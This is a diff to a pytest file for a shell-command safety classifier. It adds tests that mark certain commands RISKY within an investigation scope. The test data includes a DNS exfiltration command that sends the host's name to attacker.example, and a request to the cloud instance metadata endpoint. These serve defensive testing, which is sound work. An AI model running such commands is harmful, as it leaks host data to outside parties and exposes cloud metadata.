@@ -12,6 +12,7 @@ from pathlib import Path
 import pytest
 
 from netghost.shell.classify import classify
+from tests.shell.egress_scopes import INVESTIGATION
 
 CORPUS = Path(__file__).resolve().parents[1] / "data" / "shell" / "commands_dev.jsonl"
 ROWS = [json.loads(line) for line in CORPUS.read_text(encoding="utf-8").splitlines() if line.strip()]
@@ -46,12 +47,38 @@ def test_structural_cases_are_forbidden() -> None:
     assert not_forbidden == []
 
 
+# SAFE-labelled rows that issue 28 makes RISKY in any investigation (README: RISKY is acceptable for the
+# tricky-benign ones; the others are the issue's explicit rules).
+ISSUE28_RISKY = {
+    "nslookup -type=ns contoso.com 8.8.8.8": "a DNS query to an explicit server outside the scope is RISKY",
+    "curl -s -H 'Metadata: true' 'http://169.254.169.254/metadata/instance/compute/location?api-version=2021-02-01&format=text'":
+        "IMDS is a platform endpoint (not SAFE); Metadata is not a standard read header",
+    "dig +short '$(cat /etc/hostname).attacker.example'": "the quoted label goes to attacker.example, a zone nobody named",
+}
+
+
+def test_issue28_tightened_rows_ask_a_human() -> None:
+    rows = {r["command"]: r for r in ROWS}
+    for command in ISSUE28_RISKY:
+        assert rows[command]["expected"] == "SAFE"
+        assert classify(command, scope=INVESTIGATION).verdict == "RISKY"
+
+
+def test_no_unsafe_command_comes_out_safe_in_an_investigation() -> None:
+    breaches = [r["command"] for r in ROWS if r["expected"] != "SAFE" and classify(r["command"], scope=INVESTIGATION).verdict == "SAFE"]
+    assert breaches == []
+
+
 def test_safe_share(capsys: pytest.CaptureFixture[str]) -> None:
-    safe_rows = [r for r in ROWS if r["expected"] == "SAFE"]
-    misses = [(r["command"], classify(r["command"]).reason) for r in safe_rows if classify(r["command"]).verdict != "SAFE"]
+    """The SAFE-labelled rows in an investigation that names the hosts they probe (contoso.com,
+    example.com): since issue 28 a probe is SAFE only toward the investigation's destinations."""
+    safe_rows = [r for r in ROWS if r["expected"] == "SAFE" and r["command"] not in ISSUE28_RISKY]
+    misses = [(r["command"], c.reason) for r in safe_rows if (c := classify(r["command"], scope=INVESTIGATION)).verdict != "SAFE"]
     share = 1 - len(misses) / len(safe_rows)
+    default = sum(classify(r["command"]).verdict == "SAFE" for r in safe_rows)
     with capsys.disabled():
-        print(f"\ncommands corpus: SAFE-expected auto-run {len(safe_rows) - len(misses)}/{len(safe_rows)} = {share:.1%}")
+        print(f"\ncommands corpus: SAFE-expected auto-run {len(safe_rows) - len(misses)}/{len(safe_rows)} = {share:.1%} "
+              f"(investigation scope; {default}/{len(safe_rows)} with the default scope; {len(ISSUE28_RISKY)} rows RISKY by issue 28)")
         for cmd, reason in misses:
             print(f"  usability miss: {cmd!r}: {reason}")
     assert share >= 0.95
